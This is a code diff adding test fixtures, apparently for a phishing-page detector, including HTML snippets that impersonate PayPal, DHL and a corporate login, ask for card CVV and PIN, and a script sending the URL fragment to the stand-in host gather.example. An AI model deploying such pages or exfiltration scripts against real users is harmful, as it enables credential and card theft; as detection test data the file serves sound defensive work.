@@ -41,6 +41,21 @@ export const markCases: ReadonlyArray<readonly [kind: string, draft: GivenDraft]
     "Ferry tickets to Skerry",
     `<link rel="stylesheet" href="https://www.paypalobjects.com/a.css"><h1>Ferry tickets to Skerry</h1>${sentByScript("https://gather.example/next.php", `<input type="password">`)}`,
   ),
+  "hands-on": site(
+    "takes its visitor along",
+    "Ferry",
+    `<script>location="https://gather.example/?e="+btoa(location.hash)</script>`,
+  ),
+  cvv: site(
+    "the number behind a card, and PIN",
+    ours,
+    `<h1>${ours}</h1><form action="/next.php"><input name="cvv"><input name="pin"></form>`,
+  ),
+  "borrowed-field": site(
+    "fields of a company",
+    "Ferry",
+    `<form action="/in"><input name="loginfmt"><input type="password"></form>`,
+  ),
   jump: site("goes on by script", "DHL Tracking", `<script>location="https://gather.example/"</script>`),
   address: gather,
   sends: gather,
